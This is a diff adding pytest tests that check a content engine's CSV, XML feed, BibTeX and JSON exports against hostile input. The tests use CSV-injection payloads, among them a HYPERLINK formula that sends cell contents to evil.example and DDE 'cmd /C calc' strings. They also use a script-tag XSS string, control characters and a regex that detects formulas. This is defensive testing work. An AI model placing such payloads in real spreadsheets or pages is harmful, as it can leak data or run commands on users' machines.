@@ -6,11 +6,25 @@ The export functions are called directly with hostile values, bypassing validati
 refuses most of them at the source): this layer must hold on its own."""
 from __future__ import annotations
 
+import csv
+import dataclasses
+import io
+import json
+import math
+import re
 import subprocess
 import sys
+import xml.etree.ElementTree as ElementTree
 
-from conftest import NOW, ROOT, copy_fixture
+import pytest
+from pybtex.database import parse_string
+
+from conftest import FIXTURE, NOW, ROOT, build, copy_fixture, paths_for
+from engine import cite, export, model
+from engine.formats import NotFinite, json_text, xml_text
+from engine.pipeline import load_and_validate
 from engine.problems import WARNING, Problem, Problems, printable, shown
+from engine.render import Renderer
 
 # --- messages ---------------------------------------------------------------------------------
 
@@ -93,3 +107,176 @@ def test_the_archive_listing_prints_addresses_and_file_names_escaped(tmp_path):
                 wayback=None, out=printed.append)
     assert printed[-1] == ("  /elsewhere/wire\\x1b.yaml\n    https://web.archive.org/save/"
                            "https://wire.example.com/a\\x1b[2J\\n::add-mask::secret")
+
+
+# --- exports ----------------------------------------------------------------------------------
+
+# What a spreadsheet reads as a formula (OWASP "CSV Injection"): written here on its own, not
+# taken from the engine, so that the test does not check the engine with itself.
+FORMULA = re.compile(r"[\t\r\n]|\s*[=+\-@\uff1d\uff0b\uff0d\uff20]")
+FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+cmd|' /C calc'!A0",
+            "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
+            "\n=1+1", "  =1+1", "\u3000=1+1", "\uff1d1+1", "\uff20SUM(A1)", "-3"]
+XML_FORBIDDEN = "\x00\x01\x08\x0b\x0c\x0e\x1b\x1f\x7f\x85\x9f\ufffe\uffff"
+
+
+def inert(cell: str) -> bool:
+    """A cell that no spreadsheet runs: not formula-like, or a plain number, or quoted with '."""
+    if cell.startswith("'") or not FORMULA.match(cell):
+        return True
+    try:
+        return math.isfinite(float(cell))
+    except ValueError:
+        return False
+
+
+@pytest.fixture(scope="module")
+def validated():
+    content, problems = load_and_validate(paths_for(FIXTURE), NOW)
+    assert content is not None, problems.items
+    return content
+
+
+def with_items(content, kind: str, **items):
+    """The content with some items replaced by hostile copies (validation bypassed)."""
+    return dataclasses.replace(content, **{kind: {**content.kind(kind), **items}})
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_a_text_cell_a_spreadsheet_would_run_gets_a_leading_quote(text):
+    assert export.csv_cell(text) == "'" + text
+    assert inert(export.csv_cell(text))
+
+
+@pytest.mark.parametrize("text", ["Acme", "", "a=b", "2018-04", "1+1", "e-mail", "'quoted"])
+def test_other_text_cells_are_written_as_they_are(text):
+    assert export.csv_cell(text) == text
+
+
+def test_numbers_stay_numbers_and_lists_are_json():
+    assert [export.csv_cell(v) for v in (-3, -2.5, 0, 1e20, True)] == ["-3", "-2.5", "0", "1e+20", "true"]
+    assert export.csv_cell(["=1+1", "-x"]) == '["=1+1","-x"]'
+
+
+def test_formula_cells_from_content_are_inert_in_the_built_csv(tmp_path):
+    """Through a whole build: values validation accepts, in text and number columns."""
+    content = copy_fixture(tmp_path)
+    claim = content / "claims/valuation.yaml"
+    claim.write_text(claim.read_text().replace(
+        "statement: The round valued Acme at about $50m.",
+        "statement: '=HYPERLINK(\"http://evil.example/\",\"Click\")'").replace(
+        "claimant: Anonymous sources", "claimant: \"@SUM(1+9)*cmd|' /C calc'!A0\""))
+    timeline = content / "timelines/money.yaml"
+    timeline.write_text(timeline.read_text().replace("description: Every round Acme raised.",
+                                                     "description: '-2+3'") + "order: -3\n")
+    out = tmp_path / "out"
+    assert build(content, out).ok
+    claims = {row["id"]: row for row in csv.DictReader(io.StringIO(
+        (out / "data/claims.csv").read_text("utf-8"), newline=""))}
+    assert claims["valuation"]["statement"] == "'=HYPERLINK(\"http://evil.example/\",\"Click\")"
+    assert claims["valuation"]["claimant"] == "'@SUM(1+9)*cmd|' /C calc'!A0"
+    [money] = csv.DictReader(io.StringIO((out / "data/timelines.csv").read_text("utf-8"), newline=""))
+    assert money["description"] == "'-2+3" and money["order"] == "-3"   # text inert, number a number
+    # the JSON keeps the values as they are: JSON readers do not evaluate formulas
+    data = json.loads((out / "data/claims.json").read_text("utf-8"))
+    assert {i["id"]: i for i in data["items"]}["valuation"]["statement"].startswith("=HYPERLINK")
+    for path in (out / "data").glob("*.csv"):
+        for row in csv.reader(io.StringIO(path.read_text("utf-8"), newline="")):
+            assert all(inert(cell) for cell in row), (path.name, row)
+
+
+def test_control_characters_never_reach_a_csv_cell(validated):
+    wire = validated.sources["wire"].model_copy(update={"title": "=a\x00b\x1bc", "outlet": "x\x0cy"})
+    _, data = export.dataset_files(with_items(validated, "sources", wire=wire), "sources")
+    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(data.decode("utf-8"), newline=""))}
+    assert rows["wire"]["title"] == "'=a\ufffdb\ufffdc" and rows["wire"]["outlet"] == "x\ufffdy"
+
+
+def hostile_text(label: str) -> str:
+    return f"{label} ]]> <script>alert(1)</script> & &amp; \"' {XML_FORBIDDEN} \U0001d54f end"
+
+
+def test_feed_and_sitemap_stay_well_formed_xml_whatever_the_text(validated):
+    site = validated.site.model_copy(update={"title": hostile_text("site"),
+                                             "description": hostile_text("about")})
+    round_a = validated.events["round-a"].model_copy(update={"title": hostile_text("event")})
+    fix = validated.corrections["valuation-figure"].model_copy(update={"wrong": hostile_text("wrong")})
+    content = dataclasses.replace(with_items(with_items(validated, "events", **{"round-a": round_a}),
+                                             "corrections", **{"valuation-figure": fix}), site=site)
+    pages = model.build_pages(content)
+    files = dict(Renderer(paths_for(FIXTURE), content).site_files(pages))
+    feed = ElementTree.fromstring(files["feed.xml"].data)
+    ElementTree.fromstring(files["sitemap.xml"].data)
+    atom = "{http://www.w3.org/2005/Atom}"
+    replaced = "\ufffd" * len(XML_FORBIDDEN)
+    assert feed.find(f"{atom}title").text == hostile_text("site").replace(XML_FORBIDDEN, replaced)
+    titles = [entry.find(f"{atom}title").text for entry in feed.iter(f"{atom}entry")]
+    assert any(t.endswith(hostile_text("event").replace(XML_FORBIDDEN, replaced)) for t in titles)
+    summaries = [e.find(f"{atom}summary") for e in feed.iter(f"{atom}entry")]
+    assert any(s is not None and "<script>" in s.text and replaced in s.text for s in summaries)
+
+
+def test_xml_text_keeps_every_character_xml_allows():
+    allowed = "\t\n\r a\u00a0\u202e\ud7ff\ue000\ufffd\U0001f600\U0010ffff"
+    assert xml_text(allowed) == allowed
+    assert xml_text(XML_FORBIDDEN) == "\ufffd" * len(XML_FORBIDDEN)
+
+
+def test_json_never_holds_nan_or_infinity(validated):
+    for bad in (float("nan"), float("inf"), -float("inf")):
+        with pytest.raises(NotFinite):
+            json_text({"value": bad})
+    claim = validated.claims["valuation"]
+    figure = claim.sources[0].figure.model_copy(update={"value": float("nan")})
+    hostile = claim.model_copy(update={"sources": (claim.sources[0].model_copy(update={"figure": figure}),
+                                                   *claim.sources[1:])})
+    content = with_items(validated, "claims", valuation=hostile)
+    with pytest.raises(NotFinite) as raised:
+        export.dataset_files(content, "claims")
+    [problem] = raised.value.problems
+    assert problem.path.endswith("claims/valuation.yaml") and (problem.line, problem.column) == (1, 1)
+    assert problem.message == ("a number of claims/valuation is not a finite number (NaN or "
+                               "infinite), which JSON cannot hold: write the number itself")
+    with pytest.raises(NotFinite):
+        export.csv_cell(float("inf"))
+
+
+def test_a_non_finite_number_stops_the_build_with_a_message_and_writes_nothing(tmp_path, monkeypatch, validated):
+    """The build path: validation bypassed, the export refuses the number, nothing is written."""
+    from engine import pipeline
+    claim = validated.claims["valuation"]
+    figure = claim.sources[0].figure.model_copy(update={"value": float("inf")})
+    hostile = claim.model_copy(update={"sources": (claim.sources[0].model_copy(update={"figure": figure}),
+                                                   *claim.sources[1:])})
+    content = with_items(validated, "claims", valuation=hostile)
+    monkeypatch.setattr(pipeline, "load_and_validate",
+                        lambda *args, **kwargs: (content, Problems(FIXTURE.parent)))
+    monkeypatch.setattr(export, "MEMO", export.ItemMemo())
+    out = tmp_path / "out"
+    result = build(FIXTURE, out)
+    assert not result.ok and not out.exists()
+    assert [p.message for p in result.failures] == [
+        "a number of claims/valuation is not a finite number (NaN or infinite), which JSON "
+        "cannot hold: write the number itself"]
+
+
+def test_bibtex_and_csl_json_stay_valid_whatever_the_text(validated):
+    text = "{ } \\ % $ # _ ~ ^ & @ \" \x00\x1b\x0c\x85 \u202e \n\n end"
+    wire = validated.sources["wire"].model_copy(update={
+        "title": text, "outlet": text, "authors": [text, "A and B"],
+        "url": "https://x.example/a b{c}\\d%7B\x1b\x85\u3000"})
+    bib = cite.bibtex_file([cite.bibtex_for_source(wire)]).decode("utf-8")
+    entry = parse_string(bib, "bibtex").entries["wire"]
+    assert entry.fields["url"] == "https://x.example/a%20b%7Bc%7D%5Cd%7B%1B%C2%85%E3%80%80"
+    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f]", bib)
+    assert bib.count("{") == bib.count("}")
+    csl = json.loads(cite.csl_json([cite.csl_for_source(wire)]),
+                     parse_constant=lambda name: pytest.fail(f"{name} in JSON"))
+    assert csl[0]["title"] == text
+
+
+def test_structured_data_refuses_nan_rather_than_writing_invalid_json():
+    from engine.render import json_ld
+    assert json_ld({"a": -1.5}) == '{"a":-1.5}'
+    with pytest.raises(ValueError):
+        json_ld({"ratingValue": float("nan")})
